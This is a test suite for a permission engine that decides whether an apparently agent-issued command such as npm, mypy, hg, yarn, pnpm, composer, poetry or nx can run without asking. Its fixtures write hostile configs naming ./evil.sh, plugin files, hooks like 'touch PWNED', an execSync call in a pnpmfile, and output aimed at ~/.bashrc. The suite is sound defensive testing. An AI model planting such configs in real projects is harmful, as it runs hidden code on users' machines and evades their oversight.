    for (const text of ['git=./evil.sh\n', 'browser = ./evil.sh\n', '"git" = ./evil.sh\n', 'viewer=browser\nbrowser=./evil.sh\n', 'onload-script=./evil.js\n', 'userconfig=./other\n']) {
      for (const file of ['.npmrc', 'sub/.npmrc']) {
        write(file, text);
        for (const command of file === '.npmrc' ? calls : ['cd sub && npm ls']) expect(await ruled(command), `${file} ${text}: ${command}`).toBe('ask');
        rmSync(path.join(workspace, file));
      }
    }
    // A script is the project's code, which a call may have written as well: npm test is judged as before.
    write('.npmrc', 'git=./evil.sh\n');
    const scripts = async (command: string) => (await evaluateRules(terminal(command), [prefix('npm test'), prefix('npm run build')], context)).decision;
    for (const command of ['npm test', 'npm run build']) expect(await scripts(command), command).toBe('allow');
  });

  it("mypy's config naming plugins or a python executable, here, above or the person's, and its options that load or run: mypy imports or runs them", async () => {
    // mypy 1.0 imported the plugins of a mypy.ini, .mypy.ini, setup.cfg [mypy] or pyproject.toml [tool.mypy] a call wrote.
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix('mypy'), prefix('dmypy run'), prefix('cd')], context)).decision;
    // The workspace holds the home folder: ~/.config/mypy/config and ~/.mypy.ini are the person's.
    vi.stubEnv('HOME', workspace);
    mkdirSync(path.join(workspace, 'sub'));
    const calls = ['mypy src', 'mypy .', 'dmypy run -- src', 'cd sub && mypy .', 'nice mypy src'];
    for (const command of ['mypy src', 'dmypy run -- src', 'cd sub && mypy .']) expect(await ruled(command), command).toBe('allow');
    write('mypy.ini', '[mypy]\nstrict = True\n[mypy-x.*]\nignore_missing_imports = True\n');
    write('pyproject.toml', '[tool.mypy]\nstrict = true\n[tool.coverage.report]\nshow_missing = true\n');
    for (const command of ['mypy src', 'cd sub && mypy .']) expect(await ruled(command), command).toBe('allow');
    for (const [file, text] of [
      ['mypy.ini', '[mypy]\nplugins = ./evil.py\n'],
      ['.mypy.ini', '[mypy]\nPlugins: evil\n'],
      ['setup.cfg', '[mypy]\npython_executable = ./evil.sh\n'],
      ['pyproject.toml', '[tool.mypy]\nplugins = ["./evil.py"]\n'],
      ['pyproject.toml', 'tool.mypy.python_executable = "./evil.sh"\n'],
      ['pyproject.toml', '[tool.mypy\n'],
      ['mypy.ini', '[mypy]\njunit_xml = /home/me/.bashrc\n'],
      ['.config/mypy/config', '[mypy]\nplugins = ./evil.py\n'],
    ] as const) {
      const before = existsSync(path.join(workspace, file)) ? readFileSync(path.join(workspace, file), 'utf8') : undefined;
      write(file, text);
      for (const command of calls) expect(await ruled(command), `${file} ${text}: ${command}`).toBe('ask');
      if (before === undefined) rmSync(path.join(workspace, file));
      else write(file, before);
    }
    for (const command of [
      'mypy --config-file other.ini src', 'mypy --config=other.ini src', 'mypy --python-executable ./evil.sh src', 'mypy --python-exec=./evil.sh src',
      'mypy @args.txt', 'mypy --junit-xml ~/.bashrc src', 'mypy --html-report /tmp/r src', 'mypy --install-types --non-interactive src',
    ]) {
      expect(await ruled(command), command).toBe('ask');
    }
    expect(await ruled('mypy --strict src')).toBe('allow');
  });

  it('behind a wrapper that hands its command to a shell as a line: parallel cargo build ::: a, sem cargo build', async () => {
    // GNU parallel runs `cargo build a` through a shell, which ran the rustc-wrapper of the .cargo/config.toml beside it.
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision;
    write('.cargo/config.toml', '[build]\nrustc-wrapper = "./evil.sh"\n');
    for (const command of ['parallel cargo build ::: a', 'sem cargo build', 'parallel -j 2 yarn why ::: lodash']) expect(await ruled(command), command).toBe('ask');
  });

  it('behind more wrappers than are judged one by one: asked, never allowed unjudged', async () => {
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision;
    expect(await ruled(`${'nice '.repeat(14)}cargo build`)).toBe('allow');
    write('.cargo/config.toml', '[build]\nrustc-wrapper = "./evil.sh"\n');
    expect(await ruled(`${'nice '.repeat(14)}cargo build`)).toBe('ask');
    expect(await ruled(`${'nice '.repeat(40)}cargo build`)).toBe('ask');
    rmSync(path.join(workspace, '.cargo'), { recursive: true });
    expect(await ruled(`${'nice '.repeat(40)}cargo build`)).toBe('ask');
  });

  it("a Mercurial repository's .hg/hgrc with a hook, an extension or a tool, here or above: hg runs it at its command, hg status too", async () => {
    // hg 6.3 ran `[hooks] pre-status = touch PWNED` of a .hg/hgrc a call wrote, under a rule for hg status.
    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix('hg status'), prefix('hg log'), prefix('hg -R sub status', { exact: true }), prefix('chg status'), prefix('cd')], context)).decision;
    const calls = ['hg status', 'hg log -l1', 'cd src && hg status', 'chg status'];
    write('.hg/hgrc', '[paths]\ndefault = https://example.com/repo\n\n[ui]\nusername = Me <me@example.com>\n');
    mkdirSync(path.join(workspace, 'src'));
    for (const command of calls) expect(await ruled(command), command).toBe('allow');
    for (const text of ['[hooks]\npre-status = touch PWNED\n', '[extensions]\nevil = ./evil.py\n', '[ui]\nmerge = ./evil.sh\n', '[ui]\nusername = x\n  ssh = x\nssh = ./evil.sh\n', '%include ./x.rc\n', '[paths]\n[alias]\nst = !touch PWNED\n']) {
      write('.hg/hgrc', text);
      for (const command of calls) {
        expect(await ruled(command), `${text}: ${command}`).toBe('ask');
        expect(await denied(command), `${text}: ${command}`).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*\\.hg/hgrc`));
      }
    }
    rmSync(path.join(workspace, '.hg'), { recursive: true });
    // The repository -R names, and the person's ~/.hgrc when the home folder lies in the workspace.
    write('sub/.hg/hgrc', '[hooks]\npre-status = touch PWNED\n');
    expect(await ruled('hg -R sub status')).toBe('ask');
    expect(await ruled('hg status')).toBe('allow');
    vi.stubEnv('HOME', workspace);
    write('.hgrc', '[hooks]\npre-status = touch PWNED\n');
    expect(await ruled('hg status')).toBe('ask');
  });

  it('with no such config, or one setting only what runs nothing, yarn and nx stay plain and the rules cover them', async () => {
    write('package.json', '{"name":"x","packageManager":"yarn@4.5.0"}\n');
    write('packages/a/package.json', '{"name":"a"}\n');
    for (const command of [...shows.slice(0, -1), 'cd packages/a && yarn why lodash']) expect(await denied(command), command).toBe('ask');
    for (const command of [...shows, 'cd packages/a && yarn why lodash']) expect(await allowed(command), command).toBe('allow');
    write('.yarnrc.yml', 'nodeLinker: node-modules\nenableTelemetry: false\nnpmAuthToken: "${NPM_TOKEN}"\nplugins: []\n');
    // The person's own, outside the workspace, which no call writes.
    writeFileSync(path.join(home, '.yarnrc.yml'), 'yarnPath: /opt/yarn/yarn-4.5.0.cjs\n');
    write('.yarnrc', 'registry "https://registry.yarnpkg.com"\n--install.frozen-lockfile true\n');
    write('nx.json', '{"targetDefaults":{"build":{"dependsOn":["^build"]}},"plugins":[]}\n');
    for (const command of [...shows, 'cd packages/a && yarn why lodash', 'nx show projects', 'nx report']) {
      expect(await allowed(command), command).toBe('allow');
    }
    // `yarn --version` is not plain already: a word Yarn does not know may be a script or a program it runs.
    for (const command of shows.slice(0, -1)) expect(await denied(command), command).toBe('ask');
  });

  it('a .yarnrc.yml setting yarnPath or plugins, or a .yarnrc setting yarn-path, here or in a folder above: every yarn command runs that file', async () => {
    for (const [file, text, key] of [
      ['.yarnrc.yml', 'yarnPath: ./evil.cjs\n', 'yarnPath'],
      ['.yarnrc.yml', 'nodeLinker: pnp\n"yarnPath": ".yarn/releases/yarn-4.5.0.cjs"\n', 'yarnPath'],
      ['.yarnrc.yml', 'plugins:\n  - path: ./p.cjs\n    spec: "@yarnpkg/plugin-x"\n', 'plugins'],
      ['.yarnrc.yml', 'plugins:\n- ./p.cjs\n', 'plugins'],
      ['.yarnrc.yml', '{yarnPath: ./evil.cjs}\n', ''],
      ['.yarnrc.yml', `${'#'.repeat(70_000)}\n`, ''],
      ['.yarnrc', 'yarn-path "./x.js"\n', 'yarn-path'],
      ['.yarnrc', '"yarn-path" ./x.js\n', 'yarn-path'],
    ] as const) {
      write(file, text);
      for (const command of [...shows, 'cd packages/a && yarn why lodash', 'yarnpkg why lodash']) {
        const line = `${file} ${text.slice(0, 30)}: ${command}`;
        if (command !== 'yarn --version') expect(await denied(command), line).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*${file.replaceAll('.', '\\.')}.*${key}`));
        expect(await allowed(command), line).toBe('ask');
      }
      rmSync(path.join(workspace, file));
    }
    // Found from a folder below, as Yarn looks upward; one of a folder beside it is not read.
    write('packages/a/.yarnrc.yml', 'yarnPath: ./evil.cjs\n');
    expect(await allowed('cd packages/a && yarn why lodash')).toBe('ask');
    expect(await allowed('yarn why lodash')).toBe('allow');
    expect(await allowed('yarn --cwd packages/a why lodash')).toBe('ask');
  });

  it("a pnpmfile, or a setting naming one or a config dependency, here or above: pnpm 10.8 and later load it at every command", async () => {
    const pnpmAllows = [prefix('pnpm ls'), prefix('pnpm why'), prefix('pnpm outdated'), prefix('cd')];
    const commands = ['pnpm ls', 'pnpm why lodash', 'pnpm outdated', 'cd packages/a && pnpm ls'];
    write('packages/a/package.json', '{"name":"a"}\n');
    write('pnpm-workspace.yaml', 'packages:\n  - packages/*\nignorePnpmfile: false\n');
    write('.npmrc', 'auto-install-peers=true\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nignore-pnpmfile=false\n');
    for (const command of commands) {
      if (!command.startsWith('cd ')) expect(await denied(command), command).toBe('ask');
      expect((await evaluateRules(terminal(command), pnpmAllows, context)).decision, command).toBe('allow');
    }
    for (const [file, text, named] of [
      ['.pnpmfile.cjs', 'module.exports = { hooks: { updateConfig: (c) => (require("child_process").execSync("./evil.sh"), c) } }\n', '.pnpmfile.cjs'],
      ['.pnpmfile.mjs', 'export const hooks = {}\n', '.pnpmfile.mjs'],
      ['.npmrc', 'pnpmfile=./tools/hooks.cjs\n', 'pnpmfile'],
      ['.npmrc', 'global-pnpmfile=./tools/hooks.cjs\n', 'global-pnpmfile'],
      ['pnpm-workspace.yaml', 'packages:\n  - packages/*\npnpmfile: ./tools/hooks.cjs\n', 'pnpmfile'],
      ['pnpm-workspace.yaml', 'configDependencies:\n  pnpm-plugin-x: "1.0.0+sha512-abc"\n', 'configDependencies'],
    ] as const) {
      const before = file === '.pnpmfile.cjs' || file === '.pnpmfile.mjs' ? undefined : readFileSync(path.join(workspace, file), 'utf8');
      write(file, text);
      for (const command of commands) {
        if (!command.startsWith('cd ')) expect(await denied(command), `${file}: ${command}`).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*${named.replaceAll('.', '\\.')}`));
        expect((await evaluateRules(terminal(command), pnpmAllows, context)).decision, `${file}: ${command}`).toBe('ask');
      }
      if (before === undefined) rmSync(path.join(workspace, file));
      else write(file, before);
    }
  });

  it("pnpm's folder given as pnpm 10's parser (nopt) or pnpm 12's reads it: -C or --dir after any dashes, --prefix or a start of it, --config.dir=, -C ending a group, its value attached after one dash", async () => {
    const commands = [
      'pnpm -C sub ls', 'pnpm --dir=sub ls', 'pnpm ls --dir sub', 'pnpm -Csub ls', 'pnpm -C=sub ls',
      // pnpm 10 strips any dashes and reads a group of its one-letter options ending in C: each runs in sub.
      'pnpm -dir sub ls', 'pnpm ---dir sub ls', 'pnpm -dir=sub ls', 'pnpm --C sub ls', 'pnpm --C=sub ls', 'pnpm --rC sub ls',
      'pnpm --prefix sub ls', 'pnpm --prefix=sub ls', 'pnpm -prefix sub ls', 'pnpm --pref sub ls',
      'pnpm --config.dir=sub ls', 'pnpm --config.prefix=sub ls',
      // Both read -C at the end of a group; pnpm 12 its value attached after it too.
      'pnpm -rC sub ls', 'pnpm -rC=sub ls', 'pnpm -rCsub ls',
    ];
    const decided = async (command: string) => (await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision;
    write('package.json', '{"name":"x"}\n');
    write('sub/package.json', '{"name":"sub"}\n');
    for (const command of commands) expect(await decided(command), command).toBe('allow');
    write('sub/.pnpmfile.cjs', 'module.exports = { hooks: {} }\n');
    for (const command of commands) expect(await decided(command), command).toBe('ask');
    // `-C=sub` is the folder `sub` to both, not `=sub`.
    rmSync(path.join(workspace, 'sub', '.pnpmfile.cjs'));
    write('=sub/.pnpmfile.cjs', 'module.exports = { hooks: {} }\n');
    expect(await decided('pnpm -C=sub ls')).toBe('allow');
  });

  it("a composer.json with a pre-command-run script or plugins allowed: composer runs them at every command, composer show too", async () => {
    const composerAllows = [prefix('composer show'), prefix('composer validate'), prefix('composer outdated'), prefix('cd')];
    const commands = ['composer show', 'composer validate', 'composer outdated', 'cd sub && composer show'];
    write('sub/x.php', '<?php\n');
    write('composer.json', '{"name":"a/b","autoload":{"psr-4":{"App\\\\":"src/"}},"scripts":{"test":"phpunit"},"config":{"allow-plugins":{"php-http/discovery":false}}}\n');
    for (const command of commands) {
      if (!command.startsWith('cd ')) expect(await denied(command), command).toBe('ask');
      expect((await evaluateRules(terminal(command), composerAllows, context)).decision, command).toBe('allow');
    }
    for (const [text, key] of [
      ['{"scripts":{"pre-command-run":"./evil.sh"}}\n', 'pre-command-run'],
      ['{"scripts":{"pre-command-run":["@php evil.php"]},"scripts-descriptions":{}}\n', 'pre-command-run'],
      ['{"config":{"allow-plugins":{"evil/plugin":true}}}\n', 'allow-plugins'],
      ['{"config":{"allow-plugins":true}}\n', 'allow-plugins'],
      ['{"scripts":{"pre-command-run":"./evil.sh"}', 'may name code'],
    ] as const) {
      write('composer.json', text);
      for (const command of commands) {
        if (!command.startsWith('cd ')) expect(await denied(command), `${text}: ${command}`).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*composer\\.json.*${key}`));
        expect((await evaluateRules(terminal(command), composerAllows, context)).decision, `${text}: ${command}`).toBe('ask');
      }
    }
  });

  it("composer's folder given with -d, its value attached too (-dsub, as composer reads it), or --working-dir: that folder's composer.json is read", async () => {
    write('composer.json', '{"name":"a/b"}\n');
    write('sub/composer.json', '{"scripts":{"pre-command-run":"./evil.sh"}}\n');
    for (const command of ['composer -dsub show', 'composer show -dsub', 'composer -d sub show', 'composer --working-dir=sub show', 'composer --working-dir sub show']) {
      expect(await denied(command), command).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*\\./sub/composer\\.json.*pre-command-run`));
      expect((await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision, command).toBe('ask');
    }
    // `-d=sub` is the folder `=sub` to composer.
    write('=sub/composer.json', '{"config":{"allow-plugins":true}}\n');
    expect(await denied('composer -d=sub show')).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*\\./=sub/composer\\.json.*allow-plugins`));
    expect((await evaluateRules(terminal('composer show'), [prefix('composer show', { exact: true })], context)).decision).toBe('allow');
  });

  it("poetry's folder given as its parser (argparse) reads it: a start of --directory or --project, -C or -P grouped after a flag", async () => {
    write('pyproject.toml', '[project]\nname = "x"\n');
    write('sub/pyproject.toml', '[tool.poetry.requires-plugins]\nevil = { path = "./evil" }\n');
    write('a/b/pyproject.toml', '[tool.poetry.requires-plugins]\nevil = { path = "./evil" }\n');
    // Poetry takes --project from the --directory given: `-C a -P b` is a/b.
    for (const command of ['poetry -C a -P b show', 'poetry -P b -C a show', 'poetry --directory=a --project=b show']) {
      expect((await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision, command).toBe('ask');
    }
    for (const command of ['poetry --dir sub show', 'poetry --direc=sub show', 'poetry --proj sub show', 'poetry -nC sub show', 'poetry -vCsub show', 'poetry -qP sub show', 'poetry --directory sub show']) {
      expect(await denied(command), command).toMatch(new RegExp(`^ask naming ${noDelete.id}: `));
      expect((await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision, command).toBe('ask');
    }
    expect((await evaluateRules(terminal('poetry -n show'), [prefix('poetry -n show', { exact: true })], context)).decision).toBe('allow');
  });

  it("Poetry 2's project plugins: a pyproject.toml requiring plugins, or its .poetry/plugins folder holding one", async () => {
    const poetryAllows = [prefix('poetry show'), prefix('poetry check'), prefix('cd')];
    const commands = ['poetry show', 'poetry check', 'cd src && poetry show'];
    write('src/x.py', '\n');
    write('pyproject.toml', '[project]\nname = "x"\n\n[tool.ruff]\nexclude = ["\\\\.venv"]\n');
    mkdirSync(path.join(workspace, '.poetry', 'plugins'), { recursive: true });
    for (const command of commands) {
      if (!command.startsWith('cd ')) expect(await denied(command), command).toBe('ask');
      expect((await evaluateRules(terminal(command), poetryAllows, context)).decision, command).toBe('allow');
    }
    write('.poetry/plugins/evil-1.0.dist-info/entry_points.txt', '[poetry.application.plugin]\nevil = evil:Plugin\n');
    for (const command of commands) {
      if (!command.startsWith('cd ')) expect(await denied(command), command).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*\\.poetry/plugins`));
      expect((await evaluateRules(terminal(command), poetryAllows, context)).decision, command).toBe('ask');
    }
    rmSync(path.join(workspace, '.poetry'), { recursive: true });
    write('pyproject.toml', '[project]\nname = "x"\n\n[tool.poetry.requires-plugins]\nevil = { path = "./evil" }\n');
    for (const command of commands) {
      if (!command.startsWith('cd ')) expect(await denied(command), command).toMatch(new RegExp(`^ask naming ${noDelete.id}: .*pyproject\\.toml.*requires-plugins`));
      expect((await evaluateRules(terminal(command), poetryAllows, context)).decision, command).toBe('ask');
    }
    // Spelt as TOML readers read it: an escaped key, quoted tables, a dotted key, an inline table; or a file it cannot read.
    for (const text of [
      '[tool.poetry]\n"requires\\u002dplugins" = { evil = { path = "./evil" } }\n',
      '[tool."poetry"."requires-plugins"]\nevil = { path = "./evil" }\n',
      '[tool]\npoetry.requires-plugins.evil = { path = "./evil" }\n',
      'tool = { poetry = { requires-plugins = { evil = { path = "./evil" } } } }\n',
      '[tool.poetry\nname = "x"\n',
    ]) {
      write('pyproject.toml', text);
      for (const command of commands) expect((await evaluateRules(terminal(command), poetryAllows, context)).decision, `${text}: ${command}`).toBe('ask');
    }
    // Only mentioned, in a comment or a value: no plugin.
    write('pyproject.toml', '[project]\nname = "x"\ndescription = "no requires-plugins here"\n# [tool.poetry.requires-plugins]\n');
    for (const command of commands) expect((await evaluateRules(terminal(command), poetryAllows, context)).decision, command).toBe('allow');
  });

  it('an nx.json naming plugins: nx loads them for every command, nx show and nx report too', async () => {
    for (const text of [
      '{"plugins":["@nx/vite/plugin"]}\n',
      '{"plugins":[{"plugin":"./tools/evil.js","options":{}}]}\n',
      '{"extends":"./base.json"}\n',
      '{"\\u0070lugins":["./evil.js"]}\n',
    ]) {
      write('nx.json', text);
      for (const command of ['nx show projects', 'nx report', 'cd apps/a && nx show projects']) {
        expect(await allowed(command), `${text}: ${command}`).toBe('ask');
      }
    }
  });
});
